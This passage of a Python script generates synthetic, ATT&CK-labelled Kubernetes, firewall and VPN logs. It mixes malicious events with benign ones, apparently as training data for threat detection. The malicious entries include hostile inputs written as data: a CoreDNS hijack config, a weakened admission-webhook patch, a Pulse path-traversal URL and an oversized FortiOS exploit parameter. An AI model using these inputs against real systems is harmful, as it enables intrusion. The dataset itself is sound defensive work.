  "T1609", "command run through the kubelet via nodes/proxy - bypasses exec audit")
M(S, k8(T(23, 1, 21, 0), "delete", SA_WEB, SAG, "events", ns="kube-system", ips=POD_IP, code=200, uri="/api/v1/namespaces/kube-system/events"),
  "T1070", "collection delete of kube-system events to remove traces")
M(S, k8(T(23, 1, 23, 0), "create", "system:anonymous", ["system:unauthenticated"], "pods", ns="default", ips=("146.70.87.19",), ua="python-requests/2.32.3", code=201),
  "T1190", "anonymous user creating a pod from the Internet - exposed API server with anonymous binding")
M(S, k8(T(23, 1, 25, 0), "update", SA_WEB, SAG, "configmaps", ns="kube-system", name="coredns", ips=POD_IP, code=200, level="Request",
  req={"data": {"Corefile": ".:53 {\n    errors\n    hosts {\n      179.43.151.12 login.microsoftonline.com\n      fallthrough\n    }\n    forward . /etc/resolv.conf\n}"}}),
  "T1565.001", "CoreDNS hosts override pointing a sign-in domain at an attacker address")
M(S, k8(T(23, 1, 27, 0), "patch", SA_WEB, SAG, "validatingwebhookconfigurations", name="gatekeeper-validating-webhook-configuration", ips=POD_IP, code=200, group="admissionregistration.k8s.io", level="Request",
  req={"webhooks": [{"name": "validation.gatekeeper.sh", "failurePolicy": "Ignore", "namespaceSelector": {"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["kube-system", "tms"]}]}}]}),
  "T1562.001", "Gatekeeper admission webhook weakened to ignore failures and exclude namespaces")
M(S, k8(T(23, 1, 29, 0), "create", SA_WEB, SAG, "pods", ns="tms", name="tms-db-0", sub="portforward", ips=POD_IP, code=101),
  "T1572", "port-forward to the database pod by the compromised service account")
M(S, k8(T(23, 1, 31, 0), "delete", SA_WEB, SAG, "persistentvolumeclaims", ns="tms", name="data-tms-db-0", ips=POD_IP, code=200),
  "T1485", "database persistent volume claim deleted")
M(S, k8(T(23, 1, 33, 0), "create", "system:serviceaccount:tms:tms-web", SAG, "certificatesigningrequests", ips=POD_IP, code=201, group="certificates.k8s.io", level="Request",
  req={"spec": {"request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"], "username": "system:serviceaccount:tms:tms-web"},
       "metadata": {"name": "csr-admin-x"}}),
  "T1649", "client-certificate CSR from a service account - long-lived credential via the cluster CA")
# benign
ADM = "oidc:t.okonkwo@ravenmoor.eu"
ADMG = ["oidc:platform-sre", "system:authenticated"]
B(S, k8(T(24, 9, 0, 0), "create", ADM, ADMG, "pods", ns="tms-staging", name="tms-web-5b7c9d-pq4rz", sub="exec", ips=("10.212.31.77",), code=101,
  uri="/api/v1/namespaces/tms-staging/pods/tms-web-5b7c9d-pq4rz/exec?command=%2Fbin%2Fsh&container=web&stdin=true&stdout=true&tty=true"),
  "SRE exec into a staging pod from the office network")
B(S, k8(T(24, 9, 5, 0), "get", ADM, ADMG, "pods", ns="tms-staging", name="tms-web-5b7c9d-pq4rz", sub="log", ips=("10.212.31.77",)), "SRE reading pod logs")
B(S, k8(T(24, 2, 0, 0), "list", "system:serviceaccount:velero:velero", ["system:serviceaccounts", "system:serviceaccounts:velero", "system:authenticated"], "secrets", ips=("10.244.1.9",),
  ua="velero-server/v1.15.0 (linux/amd64) 3a1b2c4", uri="/api/v1/secrets?limit=500"), "Velero scheduled backup listing secrets cluster-wide")
B(S, k8(T(24, 2, 0, 5), "create", "system:serviceaccount:velero:velero", ["system:serviceaccounts", "system:serviceaccounts:velero", "system:authenticated"], "backups", ns="velero",
  ips=("10.244.1.9",), ua="velero-server/v1.15.0 (linux/amd64) 3a1b2c4", code=201, group="velero.io"), "Velero nightly backup object")
B(S, k8(T(24, 3, 0, 0), "update", "system:serviceaccount:cert-manager:cert-manager", ["system:serviceaccounts", "system:serviceaccounts:cert-manager", "system:authenticated"], "secrets", ns="tms", name="tms-web-tls",
  ips=("10.244.2.4",), ua="cert-manager-certificates-issuing/v1.16.2 (linux/amd64) cert-manager/3f2e1d0", code=200), "cert-manager writing a renewed TLS certificate")
B(S, k8(T(24, 9, 10, 0), "patch", "oidc:gitlab-deployer", ["oidc:ci", "system:authenticated"], "deployments", ns="tms", name="tms-web", ips=("10.212.9.20",), ua="Helm/3.16.3", group="apps"), "Helm rollout from CI")
B(S, k8(T(24, 9, 11, 0), "get", "system:kube-scheduler", ["system:authenticated"], "leases", ns="kube-system", name="kube-scheduler", ips=("10.212.70.5",), ua="kube-scheduler/v1.31.3 (linux/amd64) kubernetes/c83cbee/leader-election", group="coordination.k8s.io"),
  "scheduler leader election")
B(S, k8(T(24, 9, 12, 0), "watch", "system:node:ip-10-212-71-14", ["system:nodes", "system:authenticated"], "configmaps", ns="tms", ips=("10.212.71.14",), ua="kubelet/v1.31.3 (linux/amd64) kubernetes/c83cbee",
  uri="/api/v1/namespaces/tms/configmaps?allowWatchBookmarks=true&fieldSelector=metadata.name%3Dtms-web-config&watch=true"), "kubelet watching a mounted configmap")
B(S, k8(T(24, 9, 13, 0), "create", SA_WEB, SAG, "selfsubjectaccessreviews", ips=("10.244.3.22",), ua="tms-web/4.18.2 client-go/v0.31.3", code=201, group="authorization.k8s.io"),
  "the app's own client checking one permission at start-up")
B(S, k8(T(24, 9, 20, 0), "get", "system:serviceaccount:monitoring:prometheus", ["system:serviceaccounts", "system:authenticated"], "nodes", name="ip-10-212-71-14", sub="proxy", ips=("10.244.0.12",),
  ua="Prometheus/2.55.1", uri="/api/v1/nodes/ip-10-212-71-14/proxy/metrics/cadvisor"), "Prometheus scraping cAdvisor via nodes/proxy")
B(S, k8(T(24, 9, 30, 0), "list", "oidc:tenable-kspm", ["oidc:security-scanners", "system:authenticated"], "clusterrolebindings", ips=("10.212.250.11",), ua="Tenable-KSPM/2.4 client-go", group="rbac.authorization.k8s.io"),
  "approved Tenable KSPM scan from the scanner host reading RBAC")
B(S, k8(T(24, 9, 31, 0), "list", "oidc:tenable-kspm", ["oidc:security-scanners", "system:authenticated"], "pods", ips=("10.212.250.11",), ua="Tenable-KSPM/2.4 client-go"), "approved KSPM pod inventory")
B(S, k8(T(24, 9, 40, 0), "get", "oidc:l.brennan@ravenmoor.eu", ["oidc:tms-dev", "system:authenticated"], "secrets", ns="paygw", name="paygw-db", ips=("10.212.33.90",), code=403),
  "a developer's one forbidden get on another team's secret")
B(S, k8(T(24, 10, 0, 0), "create", ADM, ADMG, "rolebindings", ns="tms-staging", ips=("10.212.31.77",), code=201, group="rbac.authorization.k8s.io", level="Request",
  req={"metadata": {"name": "tms-dev-edit", "annotations": {"ticket": "CHG-21133"}}, "roleRef": {"kind": "ClusterRole", "name": "edit"}, "subjects": [{"kind": "Group", "name": "oidc:tms-dev"}]}),
  "SRE granting edit in staging to the dev group under a change ticket")
B(S, k8(T(24, 10, 5, 0), "delete", "system:serviceaccount:kube-system:generic-garbage-collector", ["system:serviceaccounts", "system:authenticated"], "pods", ns="tms", name="tms-batch-29061440-7xk2p", ips=("10.212.70.5",),
  ua="kube-controller-manager/v1.31.3 (linux/amd64) kubernetes/c83cbee/system:serviceaccount:kube-system:generic-garbage-collector"), "garbage collection of a finished job pod")
B(S, k8(T(24, 10, 10, 0), "create", "system:serviceaccount:kube-system:cronjob-controller", ["system:serviceaccounts", "system:authenticated"], "jobs", ns="tms", ips=("10.212.70.5",),
  ua="kube-controller-manager/v1.31.3 (linux/amd64) kubernetes/c83cbee/system:serviceaccount:kube-system:cronjob-controller", code=201, group="batch"), "CronJob controller creating a scheduled job")
B(S, k8(T(24, 10, 20, 0), "create", "system:kube-controller-manager", ["system:authenticated"], "serviceaccounts", ns="tms", name="tms-web", sub="token", ips=("10.212.70.5",), code=201,
  ua="kubelet/v1.31.3 (linux/amd64) kubernetes/c83cbee"), "projected token refresh for a pod")
B(S, k8(T(24, 11, 0, 0), "list", ADM, ADMG, "events", ns="tms", ips=("10.212.31.77",)), "SRE reading events")
B(S, k8(T(24, 11, 10, 0), "update", "system:serviceaccount:kube-system:endpointslice-controller", ["system:serviceaccounts", "system:authenticated"], "endpointslices", ns="tms", name="tms-web-8kq2z",
  ips=("10.212.70.5",), group="discovery.k8s.io", ua="kube-controller-manager/v1.31.3"), "endpoint slice update")
B(S, k8(T(24, 11, 30, 0), "create", ADM, ADMG, "pods", ns="tms-staging", name="tms-db-0", sub="portforward", ips=("10.212.31.77",), code=101), "SRE port-forwarding to the staging database")
# ---------------------------------------------------------------- firewall
S = "firewall"


def forti(t, **kv):
    base = {"date": t.strftime("%Y-%m-%d"), "time": t.strftime("%H:%M:%S"), "devname": "\"RVM-FGT-HQ\"", "devid": "\"FG200FTK23900471\"", "eventtime": str(int(t.timestamp() * 1e9)), "tz": "\"+0000\""}
    base.update(kv)
    return " ".join(f"{k}={v}" for k, v in base.items())


def pan(t, typ, sub, src, dst, sport, dport, app, act, rule, extra=""):
    ts = t.strftime("%Y/%m/%d %H:%M:%S")
    return (f"<14>{b3164(t)} RVM-PA-DC1 1,{ts},013201029447,{typ},{sub},2817,{ts},{src},{dst},0.0.0.0,0.0.0.0,{rule},,,{app},vsys1,trust,untrust,ethernet1/2,ethernet1/1,FWD-Panorama,{ts},"
            f"{int(t.timestamp()) % 900000},1,{sport},{dport},0,0,0x400000,tcp,{act},{extra}")


def asa(t, code, msg):
    return f"{b3164(t)} rvm-asa-dmz : %ASA-{code}: {msg}"


def cp(t, **kv):
    return (f"<134>1 {iso(t, 0)} rvm-cp-gw01 CheckPoint 8812 - [action:\"{kv.pop('action')}\"; flags:\"411908\"; ifdir:\"inbound\"; loguid:\"{{0x6743a1b2,0x5,0x2e01a8c0,0xc0000001}}\"; origin:\"10.212.0.2\"; "
            + "; ".join(f"{k}:\"{v}\"" for k, v in kv.items()) + "]")


def pf(t, rule, act, direction, src, dst, sport, dport, proto="tcp", flags="S"):
    pnum = {"tcp": 6, "udp": 17}[proto]
    return f"{b3164(t)} pf-branch-lyon filterlog[61022]: {rule},,,1000000103,igb0,match,{act},{direction},4,0x0,,64,51022,0,DF,{pnum},{proto},60,{src},{dst},{sport},{dport},0,{flags},1842211,,64240,,mss;sackOK;TS;nop;wscale"


def cef(t, vendor, product, ver, sig, name, sev, ext):
    return f"{b3164(t)} rvm-sophos-edge CEF:0|{vendor}|{product}|{ver}|{sig}|{name}|{sev}|rt={int(t.timestamp() * 1000)} " + ext


def srx(t, msg):
    return f"<14>1 {iso(t, 3)[:-1]}+00:00 rvm-srx-dc2 RT_FLOW - RT_FLOW_SESSION_DENY [junos@2636.1.1.1.2.129 {msg}]"


# port scan burst from the Internet on the FortiGate, 6 lines
for i, p in enumerate([22, 23, 445, 1433, 3389]):
    M(S, forti(T(23, 0, 5, 10, i * 150), logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", level="\"notice\"", vd="\"root\"", srcip="45.143.203.88", srcport=str(44100 + i),
               srcintf="\"wan1\"", dstip="86.131.44.150", dstport=str(p), dstintf="\"dmz\"", proto="6", action="\"deny\"", policyid="0", policytype="\"policy\"", service=f"\"tcp/{p}\"", sentbyte="0", rcvdbyte="0", crscore="30", craction="131072"),
      "T1046", "one external host hitting six service ports within a second - port scan")
# internal horizontal SMB sweep on pfSense at a branch, 5 lines
for i in range(5):
    M(S, pf(T(23, 3, 7, 20, i * 150), 62, "block", "in", "10.214.5.31", f"10.214.5.{40 + i}", 51000 + i, 445),
      "T1046", "branch workstation probing 445 on consecutive addresses - internal scan for lateral movement")
M(S, pan(T(23, 0, 45, 0), "THREAT", "vulnerability", "185.220.101.47", "10.212.40.30", 55210, 443, "web-browsing", "reset-both", "DMZ-inbound-web",
  "\"CVE-2024-3400 PAN-OS GlobalProtect Command Injection Vulnerability(95187)\",any,critical,client-to-server"),
  "T1190", "exploit attempt for an edge-device command-injection CVE")
M(S, pan(T(23, 1, 2, 30), "TRAFFIC", "end", "10.212.40.21", "179.43.151.12", 51030, 4444, "unknown-tcp", "allow", "Servers-outbound-any", "1582,2210,18"),
  "T1571", "server connecting out to 4444 with unknown-tcp - reverse shell on a non-standard port")
M(S, forti(T(23, 1, 52, 30), logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", level="\"notice\"", srcip="10.212.40.30", srcport="50110", srcintf="\"dmz\"", dstip="179.43.151.12",
  dstport="443", dstintf="\"wan1\"", proto="6", action="\"close\"", policyid="14", service="\"HTTPS\"", sentbyte="2147483112", rcvdbyte="18220", duration="1940", app="\"SSL\"", appcat="\"unscanned\""),
  "T1041", "two gigabytes sent from the payment gateway to the attacker host in one session - exfiltration")
M(S, asa(T(23, 1, 40, 0), "4-106023", "Deny icmp src outside:10.212.40.21 dst outside:146.70.87.19 (type 8, code 0) by access-group \"DMZ_OUT\" [0x8e1a2f33, 0x0]"),
  "T1095", "ICMP echo to the attacker host from a server in the middle of the intrusion - ICMP tunnel attempt")
M(S, asa(T(23, 1, 41, 0), "6-302020", "Built outbound ICMP connection for faddr 146.70.87.19/0 gaddr 86.131.44.151/22011 laddr 10.212.40.22/22011 type 8 code 0 payload 1452 bytes"),
  "T1095", "large (1452-byte) ICMP echo payloads to the same VPS from a second server - ICMP tunnel")
M(S, cp(T(23, 2, 0, 0), action="Drop", src="10.212.33.71", dst="91.240.118.52", proto="17", s_port="53102", service="53", product="Anti-Bot", protection_name="Cobalt Strike DNS beacon", malware_action="Communication with C&C site", severity="High", confidence_level="High"),
  "T1071.004", "Check Point Anti-Bot dropping a DNS beacon pattern")
M(S, cef(T(23, 2, 10, 0), "Sophos", "XG Firewall", "20.0", "0000010301", "ATP", "9", "act=drop src=10.212.31.88 dst=146.70.87.19 dpt=8443 app=HTTPS suser=r.iyer cs1Label=threatname cs1=C2/Generic-A cs2Label=policy cs2=Internet_Out msg=Advanced Threat Protection detected C2 callback"),
  "T1071.001", "Sophos ATP flags the workstation's beacon to the VPS")
M(S, srx(T(23, 2, 20, 0), "source-address=\"10.212.8.20\" source-port=\"50110\" destination-address=\"31.216.145.5\" destination-port=\"443\" connection-tag=\"0\" service-name=\"junos-https\" protocol-id=\"6\" policy-name=\"BLOCK-FILESHARE\" source-zone-name=\"servers\" destination-zone-name=\"untrust\" application=\"MEGA\" nested-application=\"UNKNOWN\" username=\"RVM\\k.haddad\""),
  "T1567.002", "file server trying to reach MEGA - blocked exfiltration to cloud storage")
M(S, forti(T(23, 2, 30, 0), logid="\"1059028704\"", type="\"utm\"", subtype="\"app-ctrl\"", level="\"warning\"", srcip="10.212.31.88", dstip="3.125.209.94", dstport="443", action="\"block\"", app="\"Ngrok\"", appcat="\"Proxy\"", apprisk="\"high\"", msg="\"Proxy: Ngrok\"", hostname="\"tunnel.eu.ngrok.com\""),
  "T1572", "ngrok tunnel client blocked by application control")
M(S, cp(T(23, 2, 40, 0), action="Accept", src="10.212.31.88", dst="104.16.124.96", proto="6", s_port="51520", service="443", product="URL Filtering", appi_name="AnyDesk", app_category="Remote Administration", resource="https://boot.net.anydesk.com/"),
  "T1219.002", "AnyDesk relay traffic from a finance laptop where remote-admin tools are not sanctioned")
M(S, asa(T(23, 2, 50, 0), "4-733100", "[ Scanning] drop rate-1 exceeded. Current burst rate is 48 per second, max configured rate is 10; Current average rate is 31 per second, max configured rate is 5; Cumulative total count is 19001"),
  "T1595.001", "threat detection: sustained scanning of the DMZ range")
M(S, pan(T(23, 3, 0, 0), "THREAT", "spyware", "10.212.31.88", "8.8.8.8", 58812, 53, "dns-base", "sinkhole", "Users-outbound", "\"Suspicious DNS Query (generic:x3k9.duckdns.org)(109001001)\",any,medium,client-to-server"),
  "T1568", "DNS query for a dynamic-DNS C2 domain sinkholed")
M(S, forti(T(23, 3, 20, 0), logid="\"0419016384\"", type="\"utm\"", subtype="\"ips\"", level="\"alert\"", srcip="91.240.118.52", dstip="86.131.44.150", dstport="3389", action="\"dropped\"", attack="\"MS.Windows.RDP.Brute.Force.Login\"", severity="\"high\"", ref="\"http://www.fortinet.com/ids/VID41227\""),
  "T1110.001", "IPS signature for RDP brute force from the same host that guessed passwords")
M(S, f"{b3164(T(23, 3, 30, 0))} rvm-nft-01 kernel: nft-drop-out: IN= OUT=ens192 SRC=10.212.8.20 DST=162.159.137.232 LEN=1500 TOS=0x00 PREC=0x00 TTL=64 ID=4421 DF PROTO=TCP SPT=49221 DPT=443 WINDOW=502 RES=0x00 ACK PSH URGP=0 ",
  "T1567", "file server pushing full-size packets to a Discord CDN address blocked by the egress nftables policy")
# benign
B(S, forti(T(24, 10, 0, 0), logid="\"0419016384\"", type="\"utm\"", subtype="\"ips\"", level="\"alert\"", srcip="10.212.250.11", dstip="10.212.40.30", dstport="443", action="\"detected\"", attack="\"Apache.Log4j.Error.Log.Remote.Code.Execution\"", severity="\"critical\"", policyid="91", policyname="\"Approved-VulnScan-VSCAN01\""),
  "Log4Shell probe from the approved Tenable scanner VSCAN-01, allowed by its scan policy")
for i, p in enumerate([22, 80, 443, 5432, 8443]):
    B(S, pf(T(24, 10, 5, 1, i * 100), 88, "pass", "in", "10.212.250.12", "10.214.5.10", 61000 + i, p),
      "approved Qualys scanner appliance sweeping a branch server during the weekly scan window (pass rule 'Approved-Qualys')")
B(S, pan(T(24, 10, 20, 0), "TRAFFIC", "end", "10.212.8.20", "10.212.8.15", 52001, 2500, "veeam", "allow", "Backup-internal", "88122014,1022,1840"), "Veeam backup traffic")
B(S, asa(T(24, 10, 30, 0), "6-302013", "Built inbound TCP connection 991812 for outside:86.131.44.160/40331 (86.131.44.160/40331) to dmz:10.212.60.5/22 (86.131.44.151/22)"), "partner EDI SFTP connection")
B(S, asa(T(24, 10, 31, 0), "6-302014", "Teardown TCP connection 991812 for outside:86.131.44.160/40331 to dmz:10.212.60.5/22 duration 0:01:51 bytes 48933 TCP FINs"), "EDI session teardown")
B(S, cp(T(24, 11, 0, 0), action="Accept", src="10.212.31.40", dst="52.97.146.162", proto="6", s_port="53390", service="443", product="Application Control", appi_name="Microsoft Teams", app_category="Instant Chat"), "Teams")
B(S, cef(T(24, 11, 10, 0), "Sophos", "XG Firewall", "20.0", "0000010201", "Web Filter", "2", "act=allow src=10.212.33.90 dst=140.82.121.3 dpt=443 app=GitHub suser=l.brennan cs2Label=policy cs2=Internet_Out request=https://github.com/hashicorp/terraform/releases"),
  "developer on GitHub")
B(S, srx(T(24, 11, 20, 0), "source-address=\"10.212.33.14\" source-port=\"50999\" destination-address=\"10.212.8.40\" destination-port=\"3389\" connection-tag=\"0\" service-name=\"junos-rdp\" protocol-id=\"6\" policy-name=\"DENY-USER-RDP\" source-zone-name=\"users\" destination-zone-name=\"servers\" application=\"UNKNOWN\" username=\"RVM\\k.sorensen\"").replace("RT_FLOW_SESSION_DENY", "RT_FLOW_SESSION_DENY"),
  "one user trying RDP to a server directly instead of via the jump host - single policy deny")
B(S, f"{b3164(T(24, 11, 30, 0))} tms-app-11 kernel: [2010001.10] [UFW BLOCK] IN=eth0 OUT= MAC=0a:1b:2c:3d:4e:5f:00:11:22:33:44:55:08:00 SRC=10.212.31.77 DST=10.212.40.50 LEN=52 TOS=0x00 PREC=0x00 TTL=127 ID=3311 DF PROTO=TCP SPT=55001 DPT=9090 WINDOW=64240 RES=0x00 SYN URGP=0 ",
  "SRE hitting a closed metrics port once")
B(S, forti(T(24, 11, 40, 0), logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", level="\"notice\"", srcip="10.212.40.30", srcport="51500", srcintf="\"dmz\"", dstip="18.153.12.9",
  dstport="443", dstintf="\"wan1\"", proto="6", action="\"close\"", policyid="21", service="\"HTTPS\"", sentbyte="8811231", rcvdbyte="120044", duration="61", app="\"Amazon.AWS\"", hostname="\"s3.eu-central-1.amazonaws.com\""),
  "restic backup to the company S3 bucket")
B(S, cp(T(24, 12, 0, 0), action="Accept", src="10.212.9.4", dst="10.212.40.50", proto="6", s_port="50113", service="22", product="VPN-1 & FireWall-1", rule_name="Ansible-mgmt"), "Ansible SSH management")
B(S, pan(T(24, 12, 10, 0), "THREAT", "vulnerability", "10.212.250.11", "10.212.40.30", 41221, 443, "web-browsing", "alert", "Approved-VulnScan", "\"SQL Injection Attempt(38195)\",any,high,client-to-server"),
  "SQL injection probe from the approved Tenable scanner under the scan policy")
B(S, f"{b3164(T(24, 12, 30, 0))} rvm-nft-01 kernel: nft-drop-in: IN=ens192 OUT= SRC=10.212.31.52 DST=10.212.8.22 LEN=40 TOS=0x00 PREC=0x00 TTL=128 ID=0 DF PROTO=UDP SPT=137 DPT=137 LEN=58 ",
  "NetBIOS broadcast noise dropped")
B(S, cef(T(24, 12, 40, 0), "Sophos", "XG Firewall", "20.0", "0000010201", "Web Filter", "4", "act=block src=10.212.33.71 dst=104.21.2.33 dpt=443 app=HTTPS suser=f.osei cs2Label=policy cs2=Internet_Out cat=Gambling request=https://www.betsite-example.com/"),
  "category block on gambling - HR policy, not an attack")
B(S, forti(T(24, 13, 0, 0), logid="\"0100032001\"", type="\"event\"", subtype="\"system\"", level="\"information\"", logdesc="\"Admin login successful\"", user="\"adm-netops\"", ui="\"https(10.212.31.77)\"", method="\"https\"", srcip="10.212.31.77", action="\"login\"", status="\"success\""),
  "network admin logging in to the FortiGate GUI from the management VLAN")
B(S, srx(T(24, 13, 10, 0), "source-address=\"10.212.0.10\" source-port=\"123\" destination-address=\"162.159.200.123\" destination-port=\"123\" connection-tag=\"0\" service-name=\"junos-ntp\" protocol-id=\"17\" policy-name=\"ALLOW-NTP\" source-zone-name=\"servers\" destination-zone-name=\"untrust\" application=\"NTP\" nested-application=\"UNKNOWN\" username=\"N/A\"").replace("SESSION_DENY", "SESSION_CLOSE"),
  "NTP to a public pool")
B(S, pan(T(24, 13, 20, 0), "TRAFFIC", "end", "10.212.31.40", "20.190.160.21", 51009, 443, "ms-office365-base", "allow", "Users-outbound", "40112,18001,12"), "Office 365 sign-in traffic")
# ---------------------------------------------------------------- vpn
S = "vpn"


def ovpn(t, msg):
    return f"{b3164(t)} rvm-ovpn-01 openvpn[1822]: {msg}"


def anyc(t, code, msg):
    return f"<166>{b3164(t)} rvm-asa-vpn : %ASA-{code}: {msg}"


def gp(t, sub, user, ip, status, desc, stage="login", auth="LDAP-RVM", extra=""):
    ts = t.strftime("%Y/%m/%d %H:%M:%S")
    return f"1,{ts},013201029447,GLOBALPROTECT,0,2817,{ts},vsys1,{sub},{stage},{auth},,{user},,,{ip},,,0.0.0.0,0.0.0.0,,{status},{desc},,{extra}"


def fsv(t, **kv):
    return forti(t, logid="\"0101039426\"", type="\"event\"", subtype="\"vpn\"", **kv)


def pulse(t, code, msg, user="", realm="RVM-Users", ip=""):
    return f"{iso(t, 0)[:-1]}+00:00 rvm-ics-01 PulseSecure: {t.strftime('%Y-%m-%d %H:%M:%S')} - ive - [{ip}] {user}({realm})[] - {code}: {msg}"


def zs(t, **kv):
    base = {"datetime": iso(t, 0), "product": "zpa-user-activity", "Customer": "ravenmoor"}
    base.update(kv)
    return J(base)


# GlobalProtect spray: many users, one address, 6 lines
for i, u in enumerate(["a.novak", "c.brandt", "d.mensah", "g.ferrante", "h.yilmaz"]):
    M(S, gp(T(23, 23, 10, 3 + i * 2), "gateway-auth", u, "194.180.49.200", "failure", "Authentication failed: Invalid username or password", extra="Windows,,,US"),
      "T1110.003", "one address failing GlobalProtect logins for many users seconds apart - password spraying")
# FortiGate SSL-VPN brute force on one account, 5 lines
for i in range(5):
    M(S, fsv(T(23, 23, 30, 1 + i * 3), level="\"alert\"", logdesc="\"SSL VPN login fail\"", action="\"ssl-login-fail\"", tunneltype="\"ssl-web\"", remip="77.91.124.55", user="\"b.ostrowski\"", group="\"N/A\"", reason="\"sslvpn_login_permission_denied\"", msg="\"SSL user failed to logged in\""),
      "T1110.001", "repeated SSL-VPN failures for one account from one address - brute force")
M(S, fsv(T(23, 23, 31, 0), level="\"information\"", logdesc="\"SSL VPN tunnel up\"", action="\"tunnel-up\"", tunneltype="\"ssl-tunnel\"", remip="77.91.124.55", tunnelip="10.212.200.14", user="\"b.ostrowski\"", group="\"SSLVPN-Users\"", msg="\"SSL tunnel established\""),
  "T1078", "the brute-forcing address gets a tunnel as the targeted user - valid account taken over")
# AnyConnect
M(S, anyc(T(23, 22, 0, 0), "6-113004", "AAA user authentication Successful : server =  10.212.0.20 : user = k.haddad"), "T1133", "VPN login for k.haddad from a hosting-provider address (see 722022)")
M(S, anyc(T(23, 22, 0, 1), "6-722022", "Group <RVM-Staff> User <k.haddad> IP <179.43.151.12> TCP SVC connection established without compression"),
  "T1133", "AnyConnect session from the attacker VPS while the user's laptop is on the office LAN")
M(S, anyc(T(23, 22, 0, 5), "4-722051", "Group <RVM-Staff> User <k.haddad> IP <179.43.151.12> IPv4 Address <10.212.201.33> IPv6 address <::> assigned to session"),
  "T1133", "tunnel address assigned to the hijacked session")
M(S, pulse(T(23, 22, 40, 0), "WEB20174", "Unauthenticated request url /api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection came from IP 146.70.87.19.", ip="146.70.87.19"),
  "T1190", "path-traversal request to the Ivanti/Pulse REST API - auth bypass exploit chain")
M(S, pulse(T(23, 22, 40, 3), "ADM20599", "System integrity check: new file detected /home/webserver/htdocs/dana-na/auth/lastauthserverused.js", ip="146.70.87.19"),
  "T1505.003", "integrity checker finds a modified login page script - credential-harvesting web shell on the appliance")
M(S, ovpn(T(23, 21, 0, 0), "185.220.101.47:51022 TLS: Username/Password authentication succeeded for username 'svc-monitoring'"),
  "T1078.003", "service account with no VPN need authenticating from a Tor exit")
M(S, ovpn(T(23, 21, 5, 0), "svc-monitoring/185.220.101.47:51022 MULTI: Learn: 10.212.8.0/24 -> svc-monitoring/185.220.101.47:51022"),
  "T1599", "client announcing an internal server subnet behind itself (iroute) - traffic bridged through the VPN client")
# Duo push fatigue via auth proxy, 6 lines
for i in range(5):
    t = T(23, 20, 15, 2 + i * 9)
    M(S, f"{t.strftime('%Y-%m-%dT%H:%M:%S.%f')[:-3]}+0000 [duoauthproxy.lib.log#info] Duo authentication returned 'deny': 'User declined or timed out' (user=f.osei, factor=push, client_ip=77.91.124.60, server_section=radius_server_auto)",
      "T1621", "push requests repeated every few seconds until the user gives in - MFA fatigue")
M(S, f"{T(23, 20, 16, 3).strftime('%Y-%m-%dT%H:%M:%S.%f')[:-3]}+0000 [duoauthproxy.lib.log#info] Duo authentication returned 'allow': 'Success. Logging you in...' (user=f.osei, factor=push, client_ip=77.91.124.60, server_section=radius_server_auto)",
  "T1621", "seventh push accepted from the fatigue attacker's address")
M(S, zs(T(23, 19, 0, 0), Username="l.virtanen@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="103.251.167.20", ClientCountryCode="VN", Platform="linux",
  Version="3.9.0.127", Hostname="DESKTOP-9XQ1", Application="rvm-sql-07.rvm.internal", ServerPort=1433, Policy="All-Staff-Apps", ConnectionStatus="open"),
  "T1133", "ZPA session from an unmanaged Linux host in an unusual country straight to a database server")
M(S, J({"ts": iso(T(23, 18, 0, 0)), "svc": "wg-portal", "level": "info", "event": "peer_created", "actor": "api-token:ops-bot", "peer": {"name": "k.haddad-ipad", "public_key": "q0bHc8kVu8Hgm8SDh1D0YFCkt2e3yQk6n0b2VyZk5XE=", "allowed_ips": ["10.212.0.0/16"]}, "src_ip": "179.43.151.12"}),
  "T1098", "WireGuard peer with the whole internal /16 added through the portal API from the attacker VPS")
M(S, fsv(T(23, 17, 0, 0), level="\"warning\"", logdesc="\"SSL VPN login fail\"", action="\"ssl-login-fail\"", tunneltype="\"ssl-web\"", remip="45.143.203.88", user="\"admin\"", group="\"N/A\"", reason="\"sslvpn_login_unknown_user\"", msg="\"SSL user failed to logged in\"").replace("0101039426", "0101039426") + " custommsg=\"path=/remote/hostcheck_validate?enc=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"",
  "T1190", "oversized enc parameter to the SSL-VPN hostcheck endpoint - heap-overflow exploit attempt against FortiOS")
M(S, anyc(T(23, 16, 0, 0), "4-722041", "TunnelGroup <RVM-Legacy> GroupPolicy <DfltGrpPolicy> User <l.virtanen> IP <103.251.167.20> No IPv6 address available for SVC connection"),
  "T1133", "login through a legacy tunnel group without MFA by a user already seen from the same foreign address")
# benign
B(S, gp(T(24, 8, 2, 0), "gateway-connected", "w.lindqvist", "86.131.44.201", "success", "GlobalProtect gateway client configuration generated", stage="configuration", extra="Windows,RVM-LAP-1187,6.2.4,GB"),
  "ordinary home-office connection")
B(S, gp(T(24, 8, 3, 0), "gateway-auth", "n.achebe", "92.40.176.88", "failure", "Authentication failed: Invalid username or password", extra="Windows,RVM-LAP-1401,6.2.4,GB"),
  "new hire's single failed first VPN login")
B(S, gp(T(24, 8, 3, 40), "gateway-auth", "n.achebe", "92.40.176.88", "success", "Authentication successful", extra="Windows,RVM-LAP-1401,6.2.4,GB"), "and her success")
B(S, fsv(T(24, 8, 10, 0), level="\"information\"", logdesc="\"SSL VPN tunnel up\"", action="\"tunnel-up\"", tunneltype="\"ssl-tunnel\"", remip="86.131.44.77", tunnelip="10.212.200.21", user="\"e.achterberg\"", group="\"SSLVPN-Users\"", msg="\"SSL tunnel established\""),
  "staff SSL-VPN tunnel")
B(S, fsv(T(24, 17, 10, 0), level="\"information\"", logdesc="\"SSL VPN tunnel down\"", action="\"tunnel-down\"", tunneltype="\"ssl-tunnel\"", remip="86.131.44.77", tunnelip="10.212.200.21", user="\"e.achterberg\"", group="\"SSLVPN-Users\"", sentbyte="88120311", rcvdbyte="912330011", duration="32400", msg="\"SSL tunnel shutdown\""),
  "tunnel closed at the end of the day")
B(S, anyc(T(24, 8, 20, 0), "6-113004", "AAA user authentication Successful : server =  10.212.0.20 : user = m.aziz"), "admin VPN login")
